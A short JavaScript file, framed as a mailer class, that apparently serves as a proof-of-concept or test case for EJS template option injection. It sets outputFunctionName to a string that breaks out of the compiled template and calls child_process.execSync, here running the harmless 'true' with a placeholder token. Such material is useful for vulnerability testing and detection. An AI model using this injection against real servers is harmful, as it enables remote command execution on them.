'use strict';
// A mailer as a class; letters are rendered one after the other.
const { render: fill } = require('ejs');

class Mailer {
  #options;

  constructor(options) {
    this.#options = options;
  }

  async *letters(names) {
    for (const name of names) {
      yield fill('Dear customer,', { name }, this.#options);
    }
  }
}

const option = "x; process.mainModule.require('child_process').execSync('true @@TOKEN@@'); var y";

(async () => {
  for await (const letter of new Mailer({ outputFunctionName: option }).letters(['Ann'])) {
    console.log(letter);
  }
})();
